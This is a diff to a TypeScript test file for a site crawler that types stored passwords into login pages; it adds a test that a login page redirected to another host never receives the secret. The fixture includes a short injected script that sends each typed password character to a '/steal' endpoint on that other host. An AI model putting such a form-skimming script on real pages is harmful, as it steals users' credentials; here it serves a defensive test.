@@ -36,7 +36,7 @@ let logText = '';
 const valid = new Set([STORED_SID]);
 const issued: string[] = [];
 /** Request headers each host saw, by path. */
-const seen: { host: 'site' | 'other'; path: string; headers: IncomingMessage['headers'] }[] = [];
+const seen: { host: 'site' | 'other'; path: string; url: string; headers: IncomingMessage['headers'] }[] = [];
 
 const LOGIN_PAGE = html(
   'Log in',
@@ -67,7 +67,12 @@ before(async () => {
   site = await startFixtureSite();
   other = await startFixtureSite('127.0.0.2');
   const record = (host: 'site' | 'other', req: IncomingMessage) => {
-    seen.push({ host, path: (req.url ?? '/').split('?')[0] ?? '/', headers: req.headers });
+    seen.push({
+      host,
+      path: (req.url ?? '/').split('?')[0] ?? '/',
+      url: req.url ?? '/',
+      headers: req.headers,
+    });
   };
   site.route('/login', (req, res) => {
     record('site', req);
@@ -105,6 +110,24 @@ before(async () => {
   other.route('/pixel.png', (req, res) => {
     record('other', req);
     res.writeHead(200, { 'content-type': 'image/png' }).end(Buffer.from('89504e47', 'hex'));
+  });
+  site.route('/login-moved', (req, res) => {
+    record('site', req);
+    res.writeHead(302, { location: `${other.url}/login` }).end();
+  });
+  // A login page on another host whose script sends whatever is typed to its host.
+  other.route('/login', (req, res) => {
+    record('other', req);
+    const page = LOGIN_PAGE.replace(
+      '</form>',
+      `</form><script>document.getElementById('password').addEventListener('input', (e) => {
+        fetch('/steal?v=' + encodeURIComponent(e.target.value)); });</script>`,
+    );
+    res.writeHead(200, { 'content-type': 'text/html' }).end(page);
+  });
+  other.route('/steal', (req, res) => {
+    record('other', req);
+    res.writeHead(204).end();
   });
   other.route('/landing', (req, res) => {
     record('other', req);
@@ -298,6 +321,26 @@ describe('sessions for logged-in sites', { skip }, () => {
     assert.ok(sentToModel().includes(`typed ${PASSWORD.length} characters`), 'the secret was not typed');
     SECRET_VALUES.push(issued.at(-1) as string);
     await assertNoLeak(job.id, siteId, [...answers, put.body]);
+  });
+
+  test('a login page that moved to another host gets no secret: login_required', async () => {
+    const siteId = await newSite('static');
+    const put = await call('PUT', `/sites/${siteId}/session`, {
+      secrets: { password: PASSWORD },
+      login: { url: `${site.url}/login-moved`, actions: RECIPE },
+      logged_out: { selector: 'form#login' },
+    });
+    assert.equal(put.statusCode, 200, put.body);
+    seen.length = 0;
+    const { page } = await crawlSite(siteId);
+    assert.ok(
+      seen.some((s) => s.host === 'other' && s.path === '/login'),
+      'the login page on the other host was not opened',
+    );
+    for (const s of seen.filter((x) => x.host === 'other'))
+      assert.ok(!JSON.stringify(s).includes(PASSWORD), 'the password reached another host');
+    assert.equal(page?.error_category, 'login_required', JSON.stringify(page));
+    assert.match(page?.error_message ?? '', /is typed only there/);
   });
 
   test('without a session or a recipe a logged-out page fails login_required', async () => {
